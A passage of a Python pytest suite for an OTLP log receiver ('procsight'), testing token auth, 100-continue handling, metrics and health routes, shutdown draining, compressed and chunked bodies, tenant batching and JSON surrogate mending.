    """A request refused for its token is answered at once, so its client never uploads the body."""
    (tmp_path / "team-b.token").write_text("secret-b\n")
    service = start_service("auth.yaml", TEAM_A_TOKEN="secret-a", TEAM_B_TOKEN_FILE=str(tmp_path / "team-b.token"))
    body = request_of("expect").SerializeToString()
    host, port = service.http_endpoint().rsplit(":", 1)

    def head(token: str) -> bytes:
        return (f"POST /v1/logs HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-protobuf\r\n"
                f"Content-Length: {len(body)}\r\nExpect: 100-continue\r\n{token}\r\n").encode()

    with socket.create_connection((host, int(port)), timeout=10) as sock:
        sock.sendall(head(""))
        assert sock.recv(65536).startswith(b"HTTP/1.1 401")
    with socket.create_connection((host, int(port)), timeout=10) as sock:
        sock.sendall(head("Authorization: Bearer secret-a\r\n"))
        assert sock.recv(65536) == b"HTTP/1.1 100 Continue\r\n\r\n"
        sock.sendall(body)
        assert sock.recv(65536).startswith(b"HTTP/1.1 200")


# -- self-telemetry and shutdown ---------------------------------------------------------------------


def test_metrics_and_healthz(start_service) -> None:  # type: ignore[no-untyped-def]
    service = start_service("basic.yaml")
    base = f"http://{service.http_endpoint()}"
    requests.post(f"{base}/v1/logs", data=request_of("m").SerializeToString(), headers=PROTOBUF, timeout=10)
    requests.post(f"{base}/v1/logs", data=b"junk\xff", headers=PROTOBUF, timeout=10)
    wait_until(lambda: service.pipelines["logs"].spool.uncommitted_entries() == 0)
    health = requests.get(f"{base}/healthz", timeout=10)
    assert health.status_code == 200 and health.json()["status"] == "ok"
    text = requests.get(f"{base}/metrics", timeout=10).text
    assert 'procsight_receiver_accepted_log_records_total{transport="http"} 1' in text
    assert 'procsight_receiver_rejected_requests_total{reason="malformed_protobuf",transport="http"} 1' in text
    assert "procsight_spool_bytes" in text and "procsight_stage_latency_seconds_bucket" in text
    assert 'procsight_exporter_sent_log_records_total{exporter="debug"} 1' in text


def test_shutdown_drains_what_was_acknowledged(start_service, exported) -> None:  # type: ignore[no-untyped-def]
    service = start_service("basic.yaml")
    for index in range(20):
        response = requests.post(f"http://{service.http_endpoint()}/v1/logs", headers=PROTOBUF,
                                 data=request_of(f"drain-{index}").SerializeToString(), timeout=10)
        assert response.status_code == 200
    service.shutdown(timeout=10)
    assert sum("drain-" in line for line in exported()) == 20
    assert service.pipelines["logs"].spool.uncommitted_entries() == 0
    with pytest.raises(requests.ConnectionError):
        requests.post(f"http://{service.http_endpoint()}/v1/logs", data=b"", headers=PROTOBUF, timeout=2)


def test_records_without_observed_time_get_the_receipt_time() -> None:
    before = time.time_ns()
    request = request_of("no observed time", "observed earlier")
    request.resource_logs[0].scope_logs[0].log_records[1].observed_time_unix_nano = 42
    spooled = ExportLogsServiceRequest.FromString(decode_protobuf(request.SerializeToString()).payload)
    first, second = spooled.resource_logs[0].scope_logs[0].log_records
    assert first.observed_time_unix_nano >= before
    assert second.observed_time_unix_nano == 42


def test_json_response_for_success_is_valid_otlp_json(start_service) -> None:  # type: ignore[no-untyped-def]
    service = start_service("basic.yaml")
    response = requests.post(f"http://{service.http_endpoint()}/v1/logs", timeout=10,
                             data=json.dumps({"resourceLogs": []}), headers={"Content-Type": "application/json"})
    assert response.status_code == 200 and response.json() == {}


# -- the service's own routes on the HTTP port ------------------------------------------------------------


def test_metrics_are_behind_auth_health_stays_open_and_other_paths_are_404(start_service, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    token_file = tmp_path / "b.token"
    token_file.write_text("secret-b")
    service = start_service("auth.yaml", TEAM_A_TOKEN="secret-a", TEAM_B_TOKEN_FILE=str(token_file))
    base = f"http://{service.http_endpoint()}"
    assert requests.get(f"{base}/healthz", timeout=10).status_code == 200
    assert requests.get(f"{base}/metrics", timeout=10).status_code == 401
    metrics = requests.get(f"{base}/metrics", headers={"Authorization": "Bearer secret-b"}, timeout=10)
    assert metrics.status_code == 200 and "procsight_receiver_rejected_requests_total" in metrics.text
    # the query routes belong to the `query` extension (otlp_receiver/extensions/query), not enabled here
    assert requests.get(f"{base}/api/anomalies", timeout=10).status_code == 404


def test_healthz_never_reads_a_request_body(start_service) -> None:  # type: ignore[no-untyped-def]
    service = start_service("basic.yaml")
    host, port = service.http_endpoint().rsplit(":", 1)
    with socket.create_connection((host, int(port)), timeout=5) as connection:
        # a body announced but never sent: an answer means the server did not wait for it
        connection.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000000\r\n\r\n")
        answer = connection.recv(65536).decode()
    assert answer.startswith("HTTP/1.1 200") and "Connection: close" in answer


def test_shutdown_under_load_delivers_every_acknowledged_record(start_service, exported) -> None:  # type: ignore[no-untyped-def]
    service = start_service("basic.yaml")
    url = f"http://{service.http_endpoint()}/v1/logs"
    acknowledged: list[str] = []
    stop = threading.Event()

    def send(sender: int) -> None:
        with requests.Session() as session:
            for index in range(10_000):
                if stop.is_set():
                    return
                body = f"load-{sender}-{index}"
                try:
                    response = session.post(url, data=request_of(body).SerializeToString(), headers=PROTOBUF,
                                            timeout=10)
                except requests.ConnectionError:
                    return
                if response.status_code == 200:
                    acknowledged.append(body)
                else:
                    assert response.status_code == 503  # refused while stopping, never a silent loss
                    return

    senders = [threading.Thread(target=send, args=(n,)) for n in range(4)]
    for sender in senders:
        sender.start()
    wait_until(lambda: len(acknowledged) >= 50)
    service.shutdown(timeout=10)
    stop.set()
    for sender in senders:
        sender.join(10)
    delivered = {line.split("'")[1] for line in exported() if "'load-" in line}
    assert set(acknowledged) <= delivered
    assert len(acknowledged) >= 50


def test_chunked_and_deflate_bodies(start_service, exported) -> None:  # type: ignore[no-untyped-def]
    service = start_service("basic.yaml")
    url = f"http://{service.http_endpoint()}/v1/logs"
    payload = request_of("chunked body").SerializeToString()
    chunks = (payload[i:i + 7] for i in range(0, len(payload), 7))  # a generator makes requests send chunked
    assert requests.post(url, data=chunks, headers=PROTOBUF, timeout=10).status_code == 200
    deflated = zlib.compress(request_of("deflate body").SerializeToString())
    response = requests.post(url, data=deflated, headers={**PROTOBUF, "Content-Encoding": "deflate"}, timeout=10)
    assert response.status_code == 200
    response = requests.post(url, data=b"x", headers={**PROTOBUF, "Content-Encoding": "br"}, timeout=10)
    assert response.status_code == 400 and "Content-Encoding" in status_pb2.Status.FromString(response.content).message
    wait_until(lambda: {"'chunked body'", "'deflate body'"} <= {m for line in exported() for m in
                                                            ("'chunked body'", "'deflate body'") if m in line})


def test_one_group_with_two_tenants_becomes_two_batches(start_service, exported, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    token_file = tmp_path / "b.token"
    token_file.write_text("secret-b")
    service = start_service("auth.yaml", TEAM_A_TOKEN="secret-a", TEAM_B_TOKEN_FILE=str(token_file))
    spool = service.pipelines["logs"].spool
    url = f"http://{service.http_endpoint()}/v1/logs"
    for token in ("secret-a", "secret-b"):
        response = requests.post(url, data=request_of(token).SerializeToString(), timeout=10,
                                 headers={**PROTOBUF, "Authorization": f"Bearer {token}"})
        assert response.status_code == 200
    wait_until(lambda: spool.uncommitted_entries() == 0)
    batches = {line.split(" tenant ")[1].split(":")[0]: line.split("batch ")[1].split(" ")[0]
               for line in exported() if " tenant " in line}
    assert set(batches) == {"team-a", "team-b"}
    # Both requests fell in one spool group (batch timeout 1s): one batch per tenant, ids .0 and .1.
    group = spool.batch_id(1, 2)
    assert batches == {"team-a": f"{group}.0", "team-b": f"{group}.1"}


def test_a_lone_surrogate_in_json_is_mended_as_invalid_utf8_is() -> None:
    """`\\ud800` alone is valid JSON but no UTF-8 text: the whole request was refused."""
    body = (b'{"resourceLogs":[{"resource":{"attributes":[{"key":"host.name","value":{"stringValue":"h\\ud800x"}}]},'
            b'"scopeLogs":[{"logRecords":[{"body":{"stringValue":"kept \\ud83d\\ude00"}}]}]}]}')
    decoded = decode_json(body)
    assert decoded.accepted == 1 and decoded.mended == 1
    assert decoded.request.resource_logs[0].resource.attributes[0].value.string_value == "h\ufffdx"
    assert decoded.request.resource_logs[0].scope_logs[0].log_records[0].body.string_value == "kept \U0001f600"
    # Fields the parser skips are not walked: a million empty lists in one cost 5 CPU-s of Python.
    unknown = b'{"x":["\\ud800",' + b",".join([b"[]"] * 1000) + b'],' + body[1:]
    decoded = decode_json(unknown)
    assert decoded.accepted == 1 and decoded.mended == 1
